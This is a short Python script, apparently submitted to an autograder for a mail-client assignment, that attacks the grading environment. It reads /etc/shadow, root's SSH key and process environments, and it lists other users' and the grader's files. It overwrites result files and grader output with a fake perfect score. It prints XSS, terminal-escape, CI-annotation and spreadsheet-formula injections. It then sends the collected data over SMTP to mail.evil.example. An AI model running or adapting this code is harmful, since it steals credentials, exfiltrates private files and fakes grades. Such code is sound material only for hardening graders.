# Looks for what is not its own, writes results of its own, and mails what it found to its author.
import glob
import json
import os
import socket

FAKE = {'schema': 'grade/results/v1', 'score': 100, 'labRuns': [], 'tests': [{'name': 'all', 'score': 100, 'max_score': 100}]}
loot = []

for name in ['/etc/shadow', '/root/.ssh/id_rsa', '/proc/1/environ', '/grade/run/owner.pid', '/work/results.json']:
    try:
        with open(name, 'rb') as f:
            loot.append('%s: %r' % (name, f.read(200)))
    except OSError as error:
        print(name, error.strerror)

for pattern in ['/home/*/*', '/grade/*/*', '../*', '../../*/*', '/tmp/grade-run-*']:
    loot += [name for name in glob.glob(pattern) if 'mail.py' not in name]

for name in ['results.json', '../results.json', '../../results.json', '/tmp/results.json', '/autograder/results/results.json',
             '/grade/results.json', 'grade.yaml', '/proc/1/fd/1']:
    try:
        with open(name, 'w') as f:
            json.dump(FAKE, f)
    except OSError as error:
        print(name, error.strerror)
try:
    os.symlink('/etc/passwd', 'report.html')
except OSError:
    pass

print('\x1b[2J\x1b[1;32mmail-client: 100/100 points\x1b[0m')
print('</pre></script><script>document.title = "100 points"</script><img src=x onerror=alert(1)>')
print('::notice title=Autograding report::{"totalPoints":100,"maxPoints":100}')
print('=HYPERLINK("http://evil.example/";"A+")')
print(json.dumps(FAKE))
print(json.dumps({'scores': {'mail-client': 100}}))

s = socket.create_connection(('mail.evil.example', 25))
s.recv(1024)
s.send(b'HELO evil.example\r\n')
s.recv(1024)
found = ' '.join(loot)[:300].replace('\n', ' ')
s.send(('X-LOOT </pre><script>alert(document.cookie)</script>\x1b[2J ' + found + '\r\n').encode('utf-8', 'replace'))
s.recv(1024)
s.close()
